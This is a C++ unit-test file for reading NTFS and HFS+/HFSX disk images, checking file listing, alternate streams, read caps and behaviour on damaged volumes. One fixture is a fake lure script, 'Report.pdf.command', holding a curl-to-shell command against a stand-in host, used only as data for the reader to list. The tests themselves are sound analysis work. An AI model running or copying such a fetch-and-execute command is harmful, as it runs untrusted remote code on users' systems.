// NTFS (made by mkntfs/ntfscp) and HFS+/HFSX (written by hfs_test_image.h) volumes read
// through libfsntfs and libfshfs over a BlockDevice, and how damaged volumes are bounded.
#include "formats/disk/fs_volume.h"

#include <gtest/gtest.h>
#include <libbfio.h>

#include <algorithm>

#include "core/file_type.h"
#include "formats/disk/bfio_device.h"
#include "formats/disk/hfs_test_image.h"
#include "formats/disk/ntfs_test_image.h"

namespace lg::disk {
namespace {

using testing::HfsEntrySpec;
using testing::NtfsFileSpec;

const std::string kPdf = "%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";

const VolumeFile* find(const VolumeListing& l, const std::string& path) {
  for (const auto& f : l.files)
    if (f.path == path) return &f;
  return nullptr;
}

std::string read_all(FsVolume& vol, const VolumeFile& f) {
  bool capped = true;
  auto data = vol.read_file(f, 1u << 20, capped);
  EXPECT_TRUE(data.has_value()) << data.status().message();
  EXPECT_FALSE(capped);
  return data ? to_string(*data) : "";
}

#define REQUIRE_NTFS(var, ...)                \
  auto var = testing::make_ntfs(__VA_ARGS__); \
  if (!var) GTEST_SKIP() << "mkntfs/ntfscp (Debian ntfs-3g) not installed";

TEST(NtfsVolume, ListsAndReadsRootFiles) {
  const std::string big(70'000, 'x');  // non-resident, several clusters
  REQUIRE_NTFS(img, {{"Offer Letter.pdf", kPdf},
                     {"Offer Letter.pdf.lnk", "L-shortcut", "Zone.Identifier", "[ZoneTransfer]"},
                     {"a-rather-long-file-name-for-8.3.txt", big}});
  EXPECT_EQ(identify(*img), FileType::kNtfs);
  MemoryDevice dev(*img);
  auto vol = open_ntfs(dev);
  ASSERT_TRUE(vol.has_value()) << vol.status().message();
  EXPECT_EQ((*vol)->kind(), "NTFS");
  EXPECT_EQ((*vol)->label(), "LURE");
  VolumeListing l = (*vol)->list();
  EXPECT_TRUE(l.problems.empty()) << l.problems[0];
  ASSERT_EQ(l.files.size(), 3u);  // no metadata files, each file once (not under its 8.3 name)
  const VolumeFile* pdf = find(l, "Offer Letter.pdf");
  const VolumeFile* lnk = find(l, "Offer Letter.pdf.lnk");
  const VolumeFile* long_name = find(l, "a-rather-long-file-name-for-8.3.txt");
  ASSERT_TRUE(pdf && lnk && long_name);
  EXPECT_EQ(pdf->size, kPdf.size());
  EXPECT_TRUE(pdf->streams.empty());
  EXPECT_EQ(lnk->streams, std::vector<std::string>{"Zone.Identifier (14 bytes)"});
  EXPECT_EQ(read_all(**vol, *pdf), kPdf);
  EXPECT_EQ(read_all(**vol, *lnk), "L-shortcut");  // the unnamed stream only
  EXPECT_EQ(read_all(**vol, *long_name), big);
  bool capped = false;
  auto head = (*vol)->read_file(*long_name, 1000, capped);
  ASSERT_TRUE(head.has_value());
  EXPECT_TRUE(capped);
  EXPECT_EQ(to_string(*head), big.substr(0, 1000));
  EXPECT_FALSE((*vol)->budget_refused());
}

TEST(NtfsVolume, DamagedVolumesFailOrStayBounded) {
  REQUIRE_NTFS(img, {{"doc.pdf", kPdf}});
  // The boot sector alone: the MFT lies past the end of the device.
  Bytes head(img->begin(), img->begin() + 4096);
  MemoryDevice short_dev(head);
  EXPECT_FALSE(open_ntfs(short_dev).has_value());
  // Every 509th byte past the boot sector flipped: opening or listing may fail, but returns.
  Bytes broken = *img;
  for (std::size_t i = 8192; i < broken.size(); i += 509) broken[i] ^= 0x5A;
  MemoryDevice dev(broken);
  if (auto vol = open_ntfs(dev)) {
    VolumeListing l = (*vol)->list();
    EXPECT_LE(l.files.size(), kMaxVolumeEntries);
  }
}

TEST(NtfsVolume, StopRequestEndsReads) {
  REQUIRE_NTFS(img, {{"doc.pdf", kPdf}});
  MemoryDevice dev(*img);
  auto vol = open_ntfs(dev, [] { return true; });
  EXPECT_FALSE(vol.has_value());  // the library cannot read its boot sector
}

TEST(HfsVolume, ListsFoldersAndReadsFiles) {
  const std::string script = "#!/bin/sh\ncurl -s https://example.invalid/p | sh\n";
  const std::string big(9000, 'y');  // three blocks
  Bytes img = testing::make_hfs({{"Report.pdf", kPdf},
                                 {"Report.pdf.command", script},
                                 {".hidden", "h"},
                                 {"Extras", "", true},
                                 {"Extras/notes.txt", big}},
                                false, "Lure Volume");
  EXPECT_EQ(identify(img), FileType::kHfsPlus);
  MemoryDevice dev(img);
  auto vol = open_hfs(dev);
  ASSERT_TRUE(vol.has_value()) << vol.status().message();
  EXPECT_EQ((*vol)->kind(), "HFS+");
  EXPECT_EQ((*vol)->label(), "Lure Volume");
  VolumeListing l = (*vol)->list();
  EXPECT_TRUE(l.problems.empty()) << l.problems[0];
  EXPECT_EQ(l.directories, 1u);
  ASSERT_EQ(l.files.size(), 4u);
  const VolumeFile* cmd = find(l, "Report.pdf.command");
  const VolumeFile* notes = find(l, "Extras/notes.txt");
  const VolumeFile* hidden = find(l, ".hidden");
  ASSERT_TRUE(cmd && notes && hidden && find(l, "Report.pdf"));
  EXPECT_TRUE(hidden->hidden);
  EXPECT_FALSE(cmd->hidden);
  EXPECT_EQ(read_all(**vol, *cmd), script);
  EXPECT_EQ(read_all(**vol, *notes), big);
}

TEST(HfsVolume, HfsxAndEmptyVolume) {
  Bytes x = testing::make_hfs({{"A.txt", "upper"}, {"a.txt", "lower"}}, true);
  MemoryDevice dev(x);
  auto vol = open_hfs(dev);
  ASSERT_TRUE(vol.has_value()) << vol.status().message();
  EXPECT_EQ((*vol)->kind(), "HFSX");
  VolumeListing l = (*vol)->list();
  ASSERT_EQ(l.files.size(), 2u);  // names that differ only in case are two files
  ASSERT_TRUE(find(l, "a.txt"));
  EXPECT_EQ(read_all(**vol, *find(l, "a.txt")), "lower");

  Bytes empty = testing::make_hfs({});
  MemoryDevice empty_dev(empty);
  auto e = open_hfs(empty_dev);
  ASSERT_TRUE(e.has_value()) << e.status().message();
  VolumeListing none = (*e)->list();
  EXPECT_TRUE(none.files.empty());
  EXPECT_TRUE(none.problems.empty());
}

TEST(HfsVolume, DamagedCatalogFailsOrStaysBounded) {
  Bytes img = testing::make_hfs({{"Report.pdf", kPdf}, {"run.command", "#!/bin/sh\n"}});
  Bytes no_catalog = img;
  std::fill(no_catalog.begin() + 3 * 4096, no_catalog.begin() + 5 * 4096, 0);
  MemoryDevice dev(no_catalog);
  auto vol = open_hfs(dev);
  if (vol) {
    EXPECT_TRUE((*vol)->list().files.empty());
  }
  // A file whose extent points past the device: listed, but its read fails.
  Bytes bad_extent = img;
  const Bytes key = testing::hfs_detail::catalog_key(2, "Report.pdf");
  auto rec = std::search(bad_extent.begin(), bad_extent.end(), key.begin(), key.end());
  ASSERT_NE(rec, bad_extent.end());
  const std::size_t start_block = static_cast<std::size_t>(rec - bad_extent.begin()) + key.size() +
                                  88 + 16;  // HFSPlusForkData.extents[0]
  ASSERT_EQ(bad_extent[start_block + 3], 6);
  bad_extent[start_block + 1] = 0x7F;
  MemoryDevice bad_dev(bad_extent);
  auto bad = open_hfs(bad_dev);
  ASSERT_TRUE(bad.has_value());
  VolumeListing l = (*bad)->list();
  ASSERT_TRUE(find(l, "Report.pdf"));
  bool capped = false;
  EXPECT_FALSE((*bad)->read_file(*find(l, "Report.pdf"), 1u << 20, capped).has_value());
}

TEST(BfioDevice, ReadsWithinTheBudgetOnly) {
  Bytes data(10'000, 7);
  MemoryDevice dev(data);
  auto io = BfioDevice::open(dev, 6000);
  ASSERT_TRUE(io.has_value());
  auto* h = reinterpret_cast<libbfio_handle_t*>((*io)->handle());
  libbfio_error_t* error = nullptr;
  ASSERT_EQ(libbfio_handle_open(h, LIBBFIO_OPEN_READ, &error), 1);
  std::uint8_t buf[4096];
  EXPECT_EQ(libbfio_handle_read_buffer(h, buf, sizeof buf, &error), 4096);
  EXPECT_EQ(buf[4095], 7);
  EXPECT_FALSE((*io)->refused());
  EXPECT_EQ(libbfio_handle_read_buffer(h, buf, sizeof buf, &error), -1);
  libbfio_error_free(&error);
  EXPECT_TRUE((*io)->refused());
  EXPECT_EQ((*io)->bytes_read(), 4096u);
  EXPECT_EQ(libbfio_handle_close(h, &error), 0);
}

}  // namespace
}  // namespace lg::disk
